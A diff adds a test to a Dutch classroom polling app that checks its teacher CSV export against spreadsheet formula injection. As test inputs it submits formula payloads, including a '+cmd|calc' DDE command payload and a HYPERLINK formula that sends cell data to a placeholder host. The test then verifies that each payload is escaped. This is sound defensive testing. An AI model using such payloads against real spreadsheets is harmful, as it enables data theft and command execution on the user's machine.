@@ -214,6 +214,28 @@ def test_the_leerkring_hides_which_posts_exist(hub):
     assert "vertrouwt ons" in anna.get(f"{hub['url']}{LEERKRING}kring/{set_a}").text  # nothing changed
 
 
+def test_the_csv_export_holds_no_formulas(hub):
+    """Hole 8: a guest's word-cloud word and an approved open answer reach the teacher's
+    'Excel-ready' CSV as text with a leading apostrophe, never as a formula."""
+    teacher = login(hub, TEACHER)
+    code = new_poll(teacher, hub, "woorden: Welk woord past?\nopen: Wat neem je mee?")
+    for word in ("=1+1", "+cmd|calc!a0"):
+        assert "Je antwoord is ontvangen" in answer(requests.Session(), hub, code, word).text
+    base = f"{hub['url']}{PEILING}begeleider/{code}"
+    teacher.get(base)
+    teacher.post(base, data={"_xsrf": xsrf(teacher), "actie": "volgende"})
+    link = '=HYPERLINK("http://x.example/?"&A1;"klik")'
+    assert "Je antwoord is ontvangen" in answer(requests.Session(), hub, code, link).text
+    handle = re.search(r'name="antwoord" value="([0-9a-f]{16})"', teacher.get(base).text).group(1)
+    teacher.post(base, data={"_xsrf": xsrf(teacher), "antwoord": handle, "actie": "goedkeuren"})
+    exported = teacher.get(f"{base}/export.csv")
+    assert exported.status_code == 200
+    rows = list(csv.reader(exported.content.decode("utf-8-sig").splitlines(), delimiter=";"))
+    cells = [c for row in rows[1:] for c in row]
+    assert "'=1+1" in cells and "'+cmd|calc!a0" in cells and "'" + link in cells, rows
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], rows
+
+
 def test_spoofed_addresses_do_not_multiply_devices(hub):
     """Hole 7: X-Real-IP and X-Forwarded-For from the client no longer make every request a new
     address: new devices stay capped per real address (600 a minute), so one client cannot fill
